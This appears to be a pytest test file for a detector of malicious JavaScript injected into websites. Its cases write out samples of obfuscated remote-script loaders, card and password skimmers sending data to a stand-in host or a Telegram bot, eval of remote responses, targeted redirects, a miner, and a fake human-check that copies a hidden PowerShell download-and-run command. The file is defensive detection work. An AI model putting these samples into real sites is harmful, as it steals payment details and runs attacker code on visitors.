from __future__ import annotations

import base64

import pytest

from pratique.content.base import Content
from pratique.content.javascript.injected import find
from pratique.content.mark import Mark
from pratique.model import Gap

HOST = "b.example.net"
LOAD = f"var s=document.createElement('script');s.src='https://{HOST}/x.js';"
LIBRARY = "function plain(a){return a+1}\n" * 300


def coded(script):
    return "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in script) + "))"


def marks(text, name="a.js", kind="javascript"):
    found = find(Content(text.encode(), f"/srv/www/a.example/{name}", kind))
    return [one.mark for one in found if isinstance(one, Mark) and one.confidence >= 0.7]


@pytest.mark.parametrize(
    "text",
    [
        coded(LOAD),
        LIBRARY + coded(LOAD),
        coded(LOAD) + "\n" + LIBRARY,
        "eval(atob('" + base64.b64encode(LOAD.encode()).decode() + "'))",
        "document.write(unescape('"
        + "".join(f"%{ord(c):02x}" for c in f"<script>{LOAD}</script>")
        + "'))",
        coded(f"location.href='//{HOST}/'"),
        coded("document.write('<iframe src=\"//" + HOST + "/\" width=1></iframe>')"),
        coded(
            "if(/iPhone/.test(navigator.userAgent)&&!document.cookie)location.href='//"
            + HOST
            + "/'"
        ),
        coded("window.open('//" + HOST + "/')"),
        coded(LOAD.replace(HOST, "203.0.113.9")),
        coded(LOAD.replace(HOST, "b.example.co.uk")),
    ],
)
def test_a_hidden_address(text):
    assert "js-hidden-address" in marks(text)


@pytest.mark.parametrize(
    "text",
    [
        "document.getElementById('form').onsubmit=function(){var n=document.getElementById("
        f"'cc_number').value;new Image().src='https://{HOST}/p.gif?d='+btoa(n+location.host)}}",
        "if(/checkout/.test(location.href))setInterval(function(){var o='';document."
        "querySelectorAll('input, select').forEach(function(e){o+=e.name+'='+e.value});"
        f"navigator.sendBeacon('https://{HOST}/log.php',btoa(o+location.host))}},900)",
        coded("jQuery('button').click(function(){$.post('https://" + HOST
              + "/x',{d:$('#payment').serialize()})})"),
        # An address of one's own site, which looks like a picture and stands nowhere.
        coded("new Image().src='/media/pixel.gif?d='+btoa(document.getElementById('cc_number')"
              ".value)"),
        coded("fetch('//" + HOST + "/g',{method:'POST',body:document.getElementById('password')"
              ".value})"),
        "fetch('https://api.telegram.org/bot12345678:" + "A" * 35 + "/sendMessage?text='+"
        "document.getElementById('password').value)",
    ],
)  # fmt: skip
def test_fields_that_are_taken(text):
    assert "js-takes-fields" in marks(text)


@pytest.mark.parametrize(
    "text",
    [
        "fetch('https://rpc.example.net',{method:'POST',body:JSON.stringify({method:'eth_call'})})"
        ".then(r=>r.json()).then(j=>eval(atob(j.result)))",
        coded("var x=new XMLHttpRequest();x.onload=function(){eval(x.responseText)};"
              f"x.open('GET','//{HOST}/t');x.send()"),
        f"fetch('https://{HOST}/t').then(r=>r.text()).then(t=>{{new Function('a',t)(1)}})",
    ],
)  # fmt: skip
def test_what_strangers_answer_is_run(text):
    assert "js-runs-stranger" in marks(text)


def test_a_script_in_a_dump_of_a_table():
    script = "var q=\\'x\\';\\n" + coded(LOAD)
    text = f"INSERT INTO p VALUES ('<script>{script}</script>')"
    assert marks(text, "a.sql", "sql") == ["js-hidden-address"]


def test_names_of_card_fields_in_numbers():
    names = "".join(
        f"\\x{ord(c):02x}" for c in "cc_number,cc_cid,cc_exp_month,cc_exp_year,cc_owner"
    )
    assert marks(f"var n='{names}'.split(',');") == ["js-hides-card-words"]
    assert (
        marks(
            f"var n='{names}'.split(',');/* cc_number cc_cid cc_exp_month cc_exp_year cc_owner */"
        )
        == []
    )


def test_one_kind_of_browser():
    asked = "/android/i.test(navigator.userAgent)"
    led = f"location.href='https://{HOST}/win'"
    assert marks(f"if({asked}&&document.cookie.indexOf('s')<0){led}") == ["js-visitor-redirect"]
    assert marks(f"if({asked}){led}") == []  # a site for telephones may have a name of its own


def test_visitors_of_search_engines():
    text = f"if(/google|bing/.test(document.referrer))location.href='https://{HOST}/win';"
    assert marks(text) == ["js-visitor-redirect"]


def test_a_fake_check():
    text = (
        "<html><p>Verify you are human: press Windows + R, then Ctrl + V</p><script>"
        "navigator.clipboard.writeText('powershell -w hidden -c iwr b.example.net|iex')</script>"
    )
    assert marks(text, "a.html", "html") == ["js-fake-check"]


def test_a_miner():
    text = "var m=new Some.Anonymous('" + "aB3" * 11 + "');m.start();"
    assert marks(text) == ["js-miner"]


def test_a_part_that_nobody_can_read():
    renamed = "var _0x1a2b=1;while(true){" + "_0x1a2b+=2;" * 60 + "}"
    assert marks(LIBRARY + renamed) == ["js-unreadable-part"]
    assert marks(renamed) == []
    assert marks("[]+(!" * 90_000) == []


def test_what_was_not_followed_to_its_end_is_said():
    renamed = "var _0x1a2b=1;while(true){" + "_0x1a2b+=2;" * 60 + "}"
    (gap,) = find(Content(renamed.encode(), "/srv/www/a.js", "javascript"))
    assert isinstance(gap, Gap)


@pytest.mark.parametrize(
    "text",
    [
        # The tracking snippet that stands on half of all sites.
        "var h=('https:'==document.location.protocol?'https://ssl.':'http://www.');document.write("
        'unescape("%3Cscript src=\'"+h+"stats.example.com/ga.js\' '
        "type='text/javascript'%3E%3C/script%3E\"));",
        # An address that is kept from robots: no script, no redirect.
        "document.write(unescape('%3c%61%20%68%72%65%66%3d%22%6d%61%69%6c%74%6f%3a%61%40%62%2e%63%22%3e'))",
        coded("document.title='hello'"),
        # A form of one's own.
        "$('#pay').submit(function(){$.post('/checkout/pay',{cc_number:$('#cc_number').val()})})",
        # A provider of payments.
        "function token(){var n=document.getElementById('card_number').value;"
        "fetch('https://api.pay.example.com/v1/tokens',{method:'POST'"
        ",body:JSON.stringify({number:n})})}",
        # Telephones have a site of their own.
        "if(/android|iphone/i.test(navigator.userAgent))location.href='https://m.a.example/';",
        # A button that copies.
        "button.onclick=function(){navigator.clipboard.writeText('curl https://a.example/i.sh | "
        "sh')}",
        "var x=new XMLHttpRequest();x.onload=function(){eval(x.responseText)};x.open('GET'"
        ",'/own');x.send()",
    ],
)
def test_leaves_alone(text):
    assert marks(text) == []
